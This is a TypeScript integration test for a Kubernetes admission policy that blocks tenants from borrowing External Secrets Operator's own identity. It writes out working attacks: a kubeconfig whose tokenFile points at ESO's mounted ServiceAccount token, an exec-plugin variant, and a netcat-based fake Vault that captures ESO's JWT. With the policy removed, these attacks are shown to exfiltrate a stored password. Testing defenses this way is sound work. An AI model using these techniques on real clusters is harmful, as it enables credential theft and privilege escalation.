// Room: src/manifests/esoidentity.ts, deploy/webhook/admissionpolicies.yaml
// A tenant borrowing ESO's own identity, on the node where ESO runs as production runs it (its chart's Pods, its
// ServiceAccount token mounted: tools/node/eso.ts). The tenant is a ServiceAccount with `edit` in its own namespace
// (with ESO's chart, that covers SecretStores, ExternalSecrets and generators). Each attack is tried twice: with
// the shipped policy secretwire-eso-own-identity, refused with nothing changed; and with its binding removed, when
// it succeeds, so the test can fail. Runs after test/node/node.test.ts (tap --jobs=1, in name order), whose
// stored passwords it goes after.
import { CoreV1Api, CustomObjectsApi, type KubeConfig } from '@kubernetes/client-node'
import t, { type Test } from 'tap'
import { images } from '../../tools/build/images.ts'
import { logOf, nodeCluster, sha256, untilPods } from '../helpers/node.ts'
import { tenantKubeConfig } from '../helpers/tenant.ts'
import { namePrefix } from '../../src/core/contract.ts'
import { policyNames } from '../../src/manifests/policies.ts'

const cluster = await nodeCluster()
const { kc } = cluster
const core = kc.makeApiClient(CoreV1Api)
const storage = 'eso-secret-storage'
const ns = 'intruder'
const victim = `${namePrefix}grafana-db`

const storedHashes = async () => Object.fromEntries((await core.listNamespacedSecret({ namespace: storage })).items
  .filter((s) => s.metadata?.name?.startsWith(namePrefix) === true)
  .map((s) => [s.metadata!.name!, sha256(Buffer.from(s.data?.password ?? '', 'base64').toString())]))
const before = await storedHashes()
if (before[victim] === undefined) throw new Error(`${storage}/${victim} is missing: this file runs after test/node/node.test.ts, which makes it`)

await core.createNamespace({ body: { metadata: { name: ns } } })
const tenant = await tenantKubeConfig(kc, ns)
const tenantCore = tenant.makeApiClient(CoreV1Api)
const stores = { group: 'external-secrets.io', version: 'v1', plural: 'secretstores', namespace: ns }
const externalSecrets = { group: 'external-secrets.io', version: 'v1', plural: 'externalsecrets', namespace: ns }
const create = (as: KubeConfig, what: typeof stores, body: object, dryRun?: 'All') =>
  as.makeApiClient(CustomObjectsApi).createNamespacedCustomObject({ ...what, body, ...(dryRun && { dryRun }) })
const apiService = (await core.readNamespacedService({ namespace: 'default', name: 'kubernetes' })).spec!.clusterIP!

async function refused(t: Test, attempt: Promise<unknown>, what: string): Promise<void> {
  const err = await attempt.then(() => undefined, (e: { code?: number, body?: unknown }) => e)
  t.equal(err?.code, 403, `${what}: refused (403)`)
  t.match(String(JSON.stringify(err?.body)), `ValidatingAdmissionPolicy '${policyNames.esoOwnIdentity}'`, `${what}: by ${policyNames.esoOwnIdentity}`)
}

/** Runs `attack` with the policy's binding removed (as a cluster admin can), then puts the shipped binding back. */
async function withoutPolicy(probe: object, attack: () => Promise<void>): Promise<void> {
  const binding = cluster.kubectl(['get', 'validatingadmissionpolicybinding', policyNames.esoOwnIdentity, '-o', 'json'])
  if (binding.status !== 0) throw new Error(binding.stderr)
  const shipped = JSON.parse(binding.stdout) as { metadata: Record<string, unknown> }
  const kept = { ...shipped, metadata: { name: policyNames.esoOwnIdentity } }
  const gone = cluster.kubectl(['delete', 'validatingadmissionpolicybinding', policyNames.esoOwnIdentity])
  if (gone.status !== 0) throw new Error(gone.stderr)
  try {
    // The API server's policy informer takes a moment: probe with a dry run until the store is admitted.
    await until('the policy no longer applies', () => create(tenant, stores, probe, 'All').then(() => true, () => false))
    await attack()
  } finally {
    const back = cluster.kubectl(['create', '-f', '-'], JSON.stringify(kept))
    if (back.status !== 0) throw new Error(back.stderr)
    await until('the policy applies again', () => create(tenant, stores, probe, 'All').then(() => false, () => true))
  }
}

async function until(what: string, done: () => Promise<boolean>, timeoutMs = 60_000): Promise<void> {
  const deadline = Date.now() + timeoutMs
  while (!(await done())) {
    if (Date.now() > deadline) throw new Error(`not within ${timeoutMs} ms: ${what}`)
    await new Promise((r) => setTimeout(r, 250))
  }
}

const secretExists = (name: string) => core.readNamespacedSecret({ namespace: ns, name }).then(() => true, () => false)

t.test('a kubeconfig store whose tokenFile is ESO\'s own token: refused; without the policy it copies out a stored password', async (t) => {
  // What the tenant's Secret holds: a kubeconfig whose user is "whoever reads this file", in ESO's Pod ESO itself.
  const kubeconfig = {
    apiVersion: 'v1', kind: 'Config', 'current-context': 'eso',
    clusters: [{ name: 'in-cluster', cluster: { server: `https://${apiService}`, 'certificate-authority': '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt' } }],
    users: [{ name: 'eso', user: { tokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }],
    contexts: [{ name: 'eso', context: { cluster: 'in-cluster', user: 'eso' } }],
  }
  await tenantCore.createNamespacedSecret({ namespace: ns, body: { metadata: { name: 'kubeconfig' }, stringData: { config: JSON.stringify(kubeconfig) } } })
  const store = (name: string) => ({
    apiVersion: 'external-secrets.io/v1', kind: 'SecretStore', metadata: { name },
    spec: { provider: { kubernetes: { remoteNamespace: storage, authRef: { name: 'kubeconfig', key: 'config' } } } },
  })
  const loot = {
    apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: { name: 'loot' },
    spec: {
      refreshInterval: '0', secretStoreRef: { kind: 'SecretStore', name: 'borrowed' }, target: { name: 'loot' },
      data: [{ secretKey: 'password', remoteRef: { key: victim, property: 'password' } }],
    },
  }
  await refused(t, create(tenant, stores, store('borrowed')), 'the tenant\'s SecretStore with authRef (tokenFile)')
  const exec = { ...kubeconfig, users: [{ name: 'eso', user: { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: '/bin/external-secrets', interactiveMode: 'Never' } } }] }
  await tenantCore.createNamespacedSecret({ namespace: ns, body: { metadata: { name: 'exec' }, stringData: { config: JSON.stringify(exec) } } })
  await refused(t, create(tenant, stores, { ...store('exec'), spec: { provider: { kubernetes: { remoteNamespace: storage, authRef: { name: 'exec', key: 'config' } } } } }),
    'the same with an exec credential plugin (a command run in ESO\'s Pod)')
  await create(tenant, externalSecrets, loot)
  await new Promise((r) => setTimeout(r, 10_000))
  t.notOk(await secretExists('loot'), 'after 10 s: no Secret loot in the tenant\'s namespace')
  t.same(await storedHashes(), before, 'every stored password as it was, and no new secretwire-* Secret')

  // Control: the same store without the policy. ESO reads the tenant's kubeconfig, authenticates as itself and
  // copies the stored password into the tenant's namespace.
  const co = kc.makeApiClient(CustomObjectsApi)
  await withoutPolicy(store('probe'), async () => {
    await create(tenant, stores, store('borrowed'))
    // Made again now that its store exists (ESO backs off retrying the one that failed).
    await co.deleteNamespacedCustomObject({ ...externalSecrets, name: 'loot' })
    await until('the old loot gone', () => co.getNamespacedCustomObject({ ...externalSecrets, name: 'loot' }).then(() => false, () => true))
    await create(tenant, externalSecrets, loot)
    await until('ESO synced loot through the borrowed store', () => secretExists('loot'), 90_000)
  })
  const copied = await core.readNamespacedSecret({ namespace: ns, name: 'loot' })
  t.equal(sha256(Buffer.from(copied.data!.password!, 'base64').toString()), before[victim],
    `control, policy removed: ESO, as itself, copied ${victim} into the tenant's namespace (the attack is real)`)
  await co.deleteNamespacedCustomObject({ ...externalSecrets, name: 'loot' })
  await co.deleteNamespacedCustomObject({ ...stores, name: 'borrowed' })
  await core.deleteNamespacedSecret({ namespace: ns, name: 'loot' }).catch(() => undefined)
})

t.test('a Vault store with Kubernetes auth and no token of its own: refused; without the policy ESO sends its token to the tenant\'s server', async (t) => {
  // A fake Vault in the tenant's namespace: it prints every request it receives (headers and body) and answers 403.
  await core.createNamespacedPod({ namespace: ns, body: {
    metadata: { name: 'fake-vault', labels: { app: 'fake-vault' } },
    spec: { containers: [{ name: 'vault', image: images.busybox, command: ['/bin/sh', '-c',
      'while true; do printf \'HTTP/1.1 403 Forbidden\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n\' | nc -l -p 8200; echo; done'] }] },
  } })
  const [vault] = await untilPods(kc, ns, 'the fake Vault running', (p) => p[0]?.status?.phase === 'Running' && p[0].status.podIP !== undefined, 60_000, 'app=fake-vault')
  const store = (name: string) => ({
    apiVersion: 'external-secrets.io/v1', kind: 'SecretStore', metadata: { name },
    spec: { provider: { vault: { server: `http://${vault!.status!.podIP}:8200`, path: 'secret', version: 'v2', auth: { kubernetes: { mountPath: 'kubernetes', role: 'any' } } } } },
  })
  await refused(t, create(tenant, stores, store('vault')), 'the tenant\'s Vault SecretStore with auth.kubernetes and neither secretRef nor serviceAccountRef')
  const generators = { group: 'generators.external-secrets.io', version: 'v1alpha1', plural: 'vaultdynamicsecrets', namespace: ns }
  await refused(t, create(tenant, generators, { apiVersion: 'generators.external-secrets.io/v1alpha1', kind: 'VaultDynamicSecret', metadata: { name: 'vault' },
    spec: { path: '/database/creds/x', provider: store('x').spec.provider.vault } }), 'the same as a VaultDynamicSecret generator')
  await new Promise((r) => setTimeout(r, 10_000))
  t.notMatch(await logOf(kc, ns, 'fake-vault'), /\/v1\/auth\//, 'after 10 s: the fake Vault received no login')

  await withoutPolicy(store('probe'), async () => {
    await create(tenant, stores, store('vault'))
    await until('the fake Vault received a login', async () => /"jwt"/.test(await logOf(kc, ns, 'fake-vault')), 60_000)
  })
  const jwt = /"jwt":"([^"]+)"/.exec(await logOf(kc, ns, 'fake-vault'))?.[1] ?? ''
  const claims = JSON.parse(Buffer.from(jwt.split('.')[1] ?? '', 'base64url').toString() || '{}') as { sub?: string }
  t.equal(claims.sub, 'system:serviceaccount:external-secrets:external-secrets',
    'control, policy removed: the fake Vault received ESO\'s own ServiceAccount token (the attack is real)')
  await kc.makeApiClient(CustomObjectsApi).deleteNamespacedCustomObject({ ...stores, name: 'vault' })
  t.same(await storedHashes(), before, 'every stored password as it was')
})
